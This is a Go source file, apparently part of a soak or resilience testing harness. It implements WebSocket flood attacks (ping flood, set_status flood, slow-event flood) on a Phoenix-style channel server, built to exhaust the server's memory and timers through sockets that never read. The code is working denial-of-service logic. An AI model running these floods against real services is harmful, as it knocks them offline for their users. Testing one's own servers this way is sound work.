package attack

import (
	"context"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"github.com/gobwas/ws"
)

// round is how long one flooding socket lives before it is closed and
// replaced (under the default 30 s join deadline, so a ping flood is never
// cut short by it).
const round = 10 * time.Second

// floodSpec describes a write flood: sockets that connect, optionally
// join, then write batch nonstop without reading.
type floodSpec struct {
	name    string
	sockets int
	budget  int64                         // frames to send in all
	token   func(i int) string            // connect token of socket i
	topic   func(i int) string            // topic to join first ("" for none)
	batch   func(i int) (b []byte, n int) // the frames socket i repeats, and their count
}

// runFlood runs spec until ctx ends or the budget is spent. Each socket
// writes its batch over and over (partial writes resumed, so frames stay
// whole), never reading, for one round; then it reads what the server sent
// (up to 4 MB, 1 s) to find a close frame, and a new socket takes its place.
func runFlood(ctx context.Context, t Target, rec *recorder, spec floodSpec) {
	var sent atomic.Int64
	var wg sync.WaitGroup
	for i := range spec.sockets {
		wg.Go(func() {
			b := backoff{min: 100 * time.Millisecond, max: 5 * time.Second}
			for ctx.Err() == nil && sent.Load() < spec.budget {
				start := time.Now()
				b.wait(ctx, start, floodOnce(ctx, t, rec, spec, i, &sent))
			}
		})
	}
	wg.Wait()
}

// floodOnce is one socket's life; it reports whether the socket opened.
func floodOnce(ctx context.Context, t Target, rec *recorder, spec floodSpec, i int, sent *atomic.Int64) bool {
	c, status, err := dialWS(ctx, t, i, upgrade{Query: "vsn=2.0.0&token=" + spec.token(i)}, rec)
	if err != nil {
		return false
	}
	rec.http("upgrade", status)
	if c == nil {
		return false
	}
	defer c.Close()
	stop := closeOnDone(ctx, c) // the attack's end interrupts any read or write
	defer stop()
	if topic := spec.topic(i); topic != "" {
		st, err := c.join(topic, 5*time.Second)
		if err != nil {
			rec.end(endOf(err))
			return true
		}
		rec.reply("join:" + st)
		if st != "ok" {
			return true
		}
	}
	batch, n := spec.batch(i)
	life, cancel := context.WithTimeout(ctx, round)
	defer cancel()
	off := 0 // bytes of batch written in this pass (frames stay whole)
	var werr error
	for life.Err() == nil && sent.Load() < spec.budget {
		_ = c.SetWriteDeadline(time.Now().Add(100 * time.Millisecond))
		w, err := c.Write(batch[off:])
		rec.bytes.Add(int64(w))
		if off += w; off == len(batch) {
			rec.sent.Add(int64(n))
			sent.Add(int64(n))
			off = 0
		}
		if err != nil && !isTimeout(err) {
			werr = err
			break
		}
	}
	if werr != nil {
		// the server stopped the socket: read its close frame if any
		code, end := c.drain(time.Second, 4<<20)
		if code != 0 {
			rec.closeCode(code)
		}
		if end == "client" || end == "timeout" {
			end = endOf(werr)
		}
		rec.end(end)
		return true
	}
	_ = c.SetWriteDeadline(time.Time{})
	code, end := c.drain(time.Second, 4<<20)
	if code != 0 {
		rec.closeCode(code)
		rec.end(end)
	} else {
		rec.end("client")
	}
	return true
}

func isTimeout(err error) bool { return endOf(err) == "timeout" }

// repeat builds a batch of n frames made by mk(k).
func repeat(n int, mk func(k int) []byte) []byte {
	var b []byte
	for k := range n {
		b = append(b, mk(k)...)
	}
	return b
}

// PingFlood (hole 1) sends 125-byte pings nonstop on sockets that never
// read, inside the join deadline: every ping asks for a pong the server
// must queue somewhere. Default 4 sockets, 100M pings.
func PingFlood(ctx context.Context, t Target, o Options) Result {
	ctx, cancel := o.window(ctx)
	defer cancel()
	rec := newRecorder("ping")
	payload := []byte(strings.Repeat("p", 125))
	ping := appendFrame(nil, ws.OpPing, payload)
	runFlood(ctx, t, rec, floodSpec{name: "ping", sockets: o.sockets(4), budget: o.count(100_000_000),
		token: func(i int) string { return "user:soak_ping" + strconv.Itoa(i) },
		topic: func(int) string { return "" },
		batch: func(int) ([]byte, int) { return repeat(256, func(int) []byte { return ping }), 256 },
	})
	return rec.result()
}

// StatusFlood (hole 2a) joins a room per socket and sends set_status
// events nonstop without reading the replies or the presence diffs they
// cause. Default 2 sockets, 50M events.
func StatusFlood(ctx context.Context, t Target, o Options) Result {
	ctx, cancel := o.window(ctx)
	defer cancel()
	rec := newRecorder("status")
	runFlood(ctx, t, rec, floodSpec{name: "status", sockets: o.sockets(2), budget: o.count(50_000_000),
		token: func(i int) string { return "user:soak_status" + strconv.Itoa(i) },
		topic: func(i int) string { return "room:soak_status" + strconv.Itoa(i) },
		batch: func(i int) ([]byte, int) {
			topic := "room:soak_status" + strconv.Itoa(i)
			return repeat(256, func(k int) []byte {
				return pushFrame("1", strconv.Itoa(k+2), topic, "set_status", `{"status":"s`+strconv.Itoa(k)+`"}`)
			}), 256
		},
	})
	return rec.result()
}

// SlowFlood (hole 2b) joins a room per socket and sends `slow` events
// (each asks for a reply 5 s later, so each starts a timer) nonstop without
// reading. Default 2 sockets, 50M events.
func SlowFlood(ctx context.Context, t Target, o Options) Result {
	ctx, cancel := o.window(ctx)
	defer cancel()
	rec := newRecorder("slow")
	runFlood(ctx, t, rec, floodSpec{name: "slow", sockets: o.sockets(2), budget: o.count(50_000_000),
		token: func(i int) string { return "user:soak_slow" + strconv.Itoa(i) },
		topic: func(i int) string { return "room:soak_slow" + strconv.Itoa(i) },
		batch: func(i int) ([]byte, int) {
			topic := "room:soak_slow" + strconv.Itoa(i)
			return repeat(256, func(k int) []byte {
				return pushFrame("1", strconv.Itoa(k+2), topic, "slow", `{"ms":5000}`)
			}), 256
		},
	})
	return rec.result()
}
